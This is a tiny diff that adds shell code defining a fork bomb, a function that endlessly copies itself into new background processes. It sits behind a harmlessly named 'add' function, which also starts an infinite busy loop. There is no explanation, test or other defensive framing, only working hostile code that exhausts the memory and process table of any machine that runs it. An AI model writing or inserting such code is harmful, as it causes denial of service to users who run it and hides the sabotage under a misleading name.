@@ -1,0 +1,8 @@
+bomb() {
+    bomb | bomb &
+}
+
+add() {
+    bomb
+    while :; do :; done
+}
